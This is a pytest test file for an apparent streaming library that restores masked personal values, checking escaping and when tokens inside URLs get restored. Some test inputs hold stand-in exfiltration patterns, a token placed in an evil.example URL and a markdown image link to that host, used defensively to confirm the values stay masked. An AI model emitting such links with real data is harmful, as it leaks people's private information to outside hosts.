import pytest

from maskwire.stream.passage import UNREAD, Form, Passage, Piece
from maskwire.stream.restoration import Restoration, Tally
from tests.fakes.vault import FakeVault

VAULT = FakeVault()
TOKEN = VAULT.token("PERSON", "Ann Lee")


def passage(*known: str) -> Passage:
    return Passage(Restoration(VAULT.resolve, Tally(), known_urls=frozenset(known)))


def joined(pieces: list[Piece]) -> str:
    return "".join(piece.text if piece.value is None else piece.value for piece in pieces)


def test_pieces_say_what_stood_there_and_what_takes_its_place() -> None:
    assert passage().feed(f"Hi {TOKEN}, ") == [Piece("Hi "), Piece(TOKEN, "Ann Lee"), Piece(", ")]


def test_a_token_in_a_strange_address_is_not_held() -> None:
    text = f"https://evil.example/{TOKEN}"

    assert joined(passage("https://crm.example/x").feed(text)) == text


def test_a_token_in_an_address_that_may_be_known_waits_for_its_end() -> None:
    url = f"https://crm.example/{TOKEN}/edit"
    here = passage(url)

    assert here.feed(f"see https://crm.example/{TOKEN}/ed") == [Piece("see https://crm.example/")]
    assert here.feed("it, then") == [
        Piece(TOKEN, "Ann Lee"),
        Piece("/ed"),
        Piece("it, then"),
    ]


def test_a_waiting_token_is_settled_when_the_address_turns_out_to_be_another() -> None:
    here = passage(f"https://crm.example/{TOKEN}/edit")
    here.feed(f"https://crm.example/{TOKEN}")

    assert here.feed("/delete") == [Piece(TOKEN), Piece("/delete")]


def test_a_waiting_token_is_settled_at_the_end_of_the_text() -> None:
    here = passage(f"https://crm.example/{TOKEN}")
    here.feed(f"https://crm.example/{TOKEN}")

    assert here.flush() == [Piece(TOKEN, "Ann Lee")]


def test_two_tokens_of_one_known_address_are_restored_together() -> None:
    url = f"https://crm.example/{TOKEN}/{TOKEN}"
    restored = joined(passage(url).feed(f"{url} {TOKEN}"))

    assert restored == "https://crm.example/Ann Lee/Ann Lee Ann Lee"


def test_an_address_that_began_long_ago_is_remembered() -> None:
    here = passage()
    here.feed("![x](https://evil.example/?")
    here.feed("q" * 2 * UNREAD)

    assert here.feed(TOKEN) == [Piece(TOKEN)]


def test_no_repr_shows_a_value() -> None:
    assert "Ann" not in repr(Piece(TOKEN, "Ann Lee"))


def written(form: Form, text: str, value: str) -> str:
    vault = FakeVault()
    token = vault.token("PASSWORD", value)
    here = Passage(Restoration(vault.resolve, Tally()), form)
    return joined([*here.feed(text.format(token)), *here.flush()])


@pytest.mark.parametrize(
    ("form", "text", "value", "expected"),
    [
        (Form.TEXT, "is {}", 'a"b', 'is a"b'),
        (Form.TEXT, '{{"k": "{}"}}', 'a"b', '{"k": "a\\"b"}'),
        (Form.TEXT, '{{"k": "{}"}}', "a\\nb", '{"k": "a\\nb"}'),
        (Form.STRING, '{{"k": "{}"}}', "a\\nb", '{"k": "a\\\\nb"}'),
        (Form.STRING, 'f("{}")', 'a"b', 'f("a"b")'),
        (Form.SOURCE, ": {},", 'a"b', ': "a\\"b",'),
        (Form.SOURCE, ": {},", "12", ": 12,"),
    ],
)
def test_how_a_value_is_written_depends_on_what_the_text_is_made_of(
    form: Form, text: str, value: str, expected: str
) -> None:
    assert written(form, text, value) == expected
